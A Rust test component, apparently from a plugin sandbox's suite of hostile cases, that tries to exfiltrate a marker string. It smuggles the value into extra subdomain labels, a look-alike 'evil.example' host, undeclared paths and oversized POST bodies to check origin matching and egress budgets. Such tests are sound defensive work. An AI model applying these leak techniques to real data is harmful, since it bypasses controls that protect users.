//! Threat 17: carries off what it was told, in the host's name, the path, the query and the body of
//! the target that it may use.

use hostile::{Threat, manifest, report, tried};
use lastword_sdk::adapter::Origin;
use lastword_sdk::prelude::*;

struct Exfiltrates;

const LOOT: &str = "bG9vdC1sb290LWxvb3Q";

impl Threat for Exfiltrates {
    const NAME: &'static str = "exfiltrates";

    fn manifest() -> Manifest {
        let handed = Target {
            id: "handed".to_owned(),
            origin: Origin::Matching(vec!["https://*.drop.example".to_owned()]),
            routes: Vec::new(),
            inject: Vec::new(),
        };
        manifest(Self::NAME).target(handed.get("/open/*", Effect::Read))
    }

    fn send(message: &OutboundMessage) -> Result<Receipt, SendError> {
        let handed = |host: &str| http::get("handed").url(format!("https://{host}/open/x"));
        let mut results = vec![
            // `*.` is exactly one label, and never part of one.
            tried("two labels", handed(&format!("{LOOT}.more.drop.example"))),
            tried("no label", handed("drop.example")),
            tried("half a label", handed(&format!("{LOOT}drop.example"))),
            tried("dot at the end", handed(&format!("{LOOT}.drop.example.evil.example"))),
            // Another path than the template's.
            tried("path", http::get("api").path(["read", "x", LOOT])),
            tried("in the template", http::get("api").path([LOOT, "x"])),
        ];
        // What is left is the declared path itself, its query and bodies: under a budget.
        for at in 0..40 {
            let request = http::post("api").path(["prepare"]).query("at", at.to_string());
            let result = tried("body", request.bytes("text/plain", vec![b'x'; 512 << 10]));
            let over = result["outcome"] != "200";
            results.push(result);
            if over {
                break;
            }
        }
        if message.text == "report" {
            return report(message, results);
        }
        Err(hostile::refused(&results))
    }
}

hostile::component!(Exfiltrates);
